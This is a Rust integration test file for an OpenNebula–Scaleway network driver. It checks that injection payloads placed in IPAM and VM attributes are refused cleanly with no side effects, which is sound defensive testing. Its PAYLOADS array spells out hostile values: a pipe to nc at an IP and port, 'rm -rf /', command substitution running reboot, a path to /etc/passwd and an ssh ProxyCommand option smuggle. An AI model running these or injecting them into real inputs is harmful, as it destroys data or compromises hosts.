//! The hostile-input corpus: every attribute that reaches the kernel or the
//! Scaleway API, in every document kind, given each injection payload (shell
//! metacharacters, command substitution, option-like words, paths, newlines,
//! over-long values...). Each of these 300-odd documents must be refused by
//! the action with one clear error naming the attribute, nothing on stdout,
//! no panic, and no side effect: the state folder stays empty, and neither
//! `ip`, `nft`, `ssh` nor Scaleway or oned could have been reached (PATH
//! and the endpoints point nowhere, so reaching them would change the
//! error).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

use integration_tests::{encode, fixture, run_ipam, run_vnm};
use opennebula::xml::{self, Element};
use test_support::TempDir;

/// Values no typed attribute accepts.
const PAYLOADS: [&str; 14] = [
    "x; reboot",
    "$(reboot)",
    "`id`",
    "a | nc 192.0.2.1 4444",
    "a && rm -rf /",
    "../../../etc/passwd",
    "-oProxyCommand=reboot x",
    "a\nb",
    "a'b\"c",
    "<tag>",
    "a b",
    "*",
    "1.2.3.4; flush ruleset",
    "--help ",
];

fn long_payload() -> String {
    "7".repeat(300)
}

/// Sets the text of the child `attr` of the element found by `find`, adding
/// the child when the captured document has none (oned keeps what a
/// template's author writes on a NIC beyond what the network sets).
fn mutate(doc: &str, find: &dyn Fn(&Element) -> bool, attr: &str, value: &str) -> String {
    fn walk(e: &mut Element, find: &dyn Fn(&Element) -> bool, attr: &str, value: &str) -> bool {
        if find(e) {
            match e.children.iter_mut().find(|c| c.name == attr) {
                Some(c) => c.text = value.to_owned(),
                None => e.children.push(Element::leaf(attr, value)),
            }
            return true;
        }
        e.children.iter_mut().any(|c| walk(c, find, attr, value))
    }
    let mut root = xml::parse(doc.as_bytes()).unwrap();
    assert!(walk(&mut root, find, attr, value), "{attr} not found");
    root.to_xml()
}

/// Finds the element whose child is mutated.
type Finder<'a> = &'a dyn Fn(&Element) -> bool;

fn nic(id: &'static str) -> impl Fn(&Element) -> bool {
    move |e: &Element| e.name == "NIC" && e.child("NIC_ID").is_some_and(|n| n.text == id)
}

struct Sandbox {
    dir: TempDir,
    state: String,
    lock: String,
}

impl Sandbox {
    fn new() -> Self {
        let dir = TempDir::new("hostile-corpus");
        let state = dir.path().join("state").display().to_string();
        let lock = dir.path().join("lock").display().to_string();
        Self { dir, state, lock }
    }

    fn env(&self) -> Vec<(&str, &str)> {
        vec![
            ("PATH", "/nonexistent"),
            ("ONE_SCALEWAY_STATE_DIR", self.state.as_str()),
            ("ONE_SCALEWAY_HOST_LOCK", self.lock.as_str()),
            ("ONE_SCALEWAY_SUDO", "never"),
            ("SCW_API_URL", "http://127.0.0.1:9"),
            ("SCW_SECRET_KEY", "5ec7e7aa-0000-4000-8000-5ec7e75ec7e7"),
            ("SCW_DEFAULT_PROJECT_ID", "564aa517-68b0-4fd7-8c8c-d21c4bcdcbd5"),
            ("SCW_CONFIG_PATH", "/nonexistent/config.yaml"),
            ("ONE_XMLRPC", "http://127.0.0.1:9/RPC2"),
            ("ONE_SCALEWAY_SSH", "/nonexistent/ssh"),
        ]
    }

    fn untouched(&self) {
        let written: Vec<_> = std::fs::read_dir(self.dir.path())
            .map(|d| d.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default();
        assert!(written.is_empty(), "side effect: {written:?}");
    }
}

fn refused(ran: &integration_tests::Ran, what: &str, attr: &str) {
    assert_ne!(ran.code, 0, "{what}: must fail\n{ran:?}");
    assert_eq!(ran.stdout, "", "{what}: nothing on stdout");
    let errors = ran.error_lines();
    assert_eq!(
        errors.len(),
        1,
        "{what}: one error line, got {errors:?}\n{}",
        ran.stderr
    );
    assert!(errors[0].contains(attr), "{what}: {:?} should name {attr}", errors[0]);
    assert!(!errors[0].contains('\n'));
}

#[test]
fn ipam_attributes() {
    let sb = Sandbox::new();
    let env = sb.env();
    let register = fixture("ipam/register_address_range.xml");
    // A range made by oneprovision carries PROVISION_ID.
    let provisioned = register.replacen(
        "<SIZE><![CDATA[1]]></SIZE>",
        "<PROVISION_ID><![CDATA[17]]></PROVISION_ID><SIZE><![CDATA[1]]></SIZE>",
        1,
    );
    let get = fixture("ipam/get_address.xml");
    let unregister = fixture("ipam/unregister_address_range.xml");
    let ar = |e: &Element| e.name == "AR";
    let address = |e: &Element| e.name == "ADDRESS";
    let mut count = 0;
    let cases: Vec<(&str, &str, Finder<'_>, &str)> = vec![
        ("register_address_range", register.as_str(), &ar, "IPAM_MAD"),
        ("register_address_range", register.as_str(), &ar, "SIZE"),
        ("register_address_range", register.as_str(), &ar, "SCALEWAY_IP_TYPE"),
        ("register_address_range", register.as_str(), &ar, "SCALEWAY_PROFILE"),
        ("register_address_range", provisioned.as_str(), &ar, "PROVISION_ID"),
        ("get_address", get.as_str(), &address, "SIZE"),
        ("unregister_address_range", unregister.as_str(), &ar, "SCALEWAY_IP_ID"),
        ("unregister_address_range", unregister.as_str(), &ar, "SCALEWAY_ZONE"),
    ];
    for (action, doc, find, attr) in &cases {
        for payload in PAYLOADS.iter().map(|p| (*p).to_owned()).chain([long_payload()]) {
            let bad = mutate(doc, *find, attr, &payload);
            let ran = run_ipam(action, &env, &encode(&bad));
            refused(&ran, &format!("{action} {attr}={payload:?}"), attr);
            count += 1;
        }
    }
    sb.untouched();
    eprintln!("{count} hostile IPAM documents refused");
    assert!(count >= 100);
}

#[test]
fn nic_attributes() {
    let sb = Sandbox::new();
    let env = sb.env();
    let vm = fixture("vnm/deploy-scaleway-pre.xml");
    let history = |e: &Element| e.name == "HISTORY";
    let public = nic("0");
    let private = nic("1");
    let top = |e: &Element| e.name == "VM";
    let mut count = 0;
    let cases: Vec<(&str, &[&str], Finder<'_>, &str)> = vec![
        ("scaleway", &["pre", "post", "clean"], &public, "IP"),
        ("scaleway", &["pre", "post", "clean"], &public, "MAC"),
        ("scaleway", &["pre", "post", "clean"], &public, "BRIDGE"),
        ("scaleway", &["pre", "post", "clean"], &public, "GATEWAY"),
        ("scaleway", &["pre", "post", "clean"], &public, "EXTERNAL_IP"),
        ("scaleway", &["pre", "post", "clean"], &public, "SCALEWAY_IP_ID"),
        ("scaleway", &["pre", "post", "clean"], &public, "NETWORK_ID"),
        ("scaleway", &["pre", "post", "clean"], &public, "AR_ID"),
        ("scaleway", &["pre", "post", "clean"], &public, "NIC_ID"),
        ("scaleway_evpn", &["pre", "clean"], &private, "VLAN_ID"),
        ("scaleway_evpn", &["pre", "clean"], &private, "PHYDEV"),
        ("scaleway_evpn", &["pre", "clean"], &private, "BRIDGE"),
        ("scaleway_evpn", &["pre", "clean"], &private, "MAC"),
        ("scaleway_evpn", &["pre", "clean"], &private, "GUEST_MTU"),
        ("scaleway", &["pre", "post", "clean"], &history, "HOSTNAME"),
        ("scaleway_evpn", &["pre", "clean"], &top, "DEPLOY_ID"),
    ];
    for (driver, actions, find, attr) in &cases {
        for payload in PAYLOADS.iter().map(|p| (*p).to_owned()).chain([long_payload()]) {
            let bad = mutate(&vm, *find, attr, &payload);
            for action in *actions {
                let ran = run_vnm(driver, action, &[], &env, &encode(&bad));
                let what = format!("{driver} {action} {attr}={payload:?}");
                if *action == "clean" && ran.code == 0 {
                    // clean may go on without the bad NIC (a VM must always be
                    // removable): it then removes what the host record holds and
                    // warns, naming the attribute.
                    assert!(
                        ran.stderr.lines().any(|l| l.starts_with("WARN: ") && l.contains(attr)),
                        "{what}: a clean that goes on warns\n{}",
                        ran.stderr
                    );
                } else {
                    refused(&ran, &what, attr);
                }
            }
            count += 1;
        }
    }
    sb.untouched();
    eprintln!("{count} hostile VM documents refused");
    assert!(count >= 200);
}
